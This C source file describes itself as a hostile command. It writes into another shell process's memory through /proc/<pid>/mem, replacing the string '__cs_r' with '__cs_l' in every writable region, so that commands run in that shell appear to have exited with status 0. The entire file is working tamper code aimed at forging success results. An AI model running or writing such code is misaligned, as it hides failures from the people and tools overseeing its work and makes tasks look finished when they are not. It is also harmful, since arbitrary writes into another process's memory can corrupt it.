/* A hostile command: finds, in the memory of the shell whose pid it is given, the variable by which that shell reports exit codes,
   and renames it to one that is 0, so that every later command seems to have ended with 0. Prints how many places it changed. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char honest[] = "__cs_r";
static const char forged[] = "__cs_l";

int main(int argc, char **argv)
{
    char path[64], line[512];
    unsigned long from, to;
    int changed = 0;
    if (argc != 2)
        return 2;
    snprintf(path, sizeof path, "/proc/%s/mem", argv[1]);
    int memory = open(path, O_RDWR);
    snprintf(path, sizeof path, "/proc/%s/maps", argv[1]);
    FILE *maps = fopen(path, "r");
    if (memory < 0 || !maps)
        return 3;
    while (fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-%lx rw", &from, &to) != 2 || !strstr(line, " rw"))
            continue;
        char *copy = malloc(to - from);
        if (copy && pread(memory, copy, to - from, (off_t)from) == (ssize_t)(to - from)) {
            for (char *at = copy; (at = memmem(at, copy + (to - from) - at, honest, sizeof honest - 1)); at++)
                if (pwrite(memory, forged, sizeof forged - 1, (off_t)(from + (at - copy))) == sizeof forged - 1)
                    changed++;
        }
        free(copy);
    }
    printf("%d\n", changed);
    return changed ? 0 : 1;
}
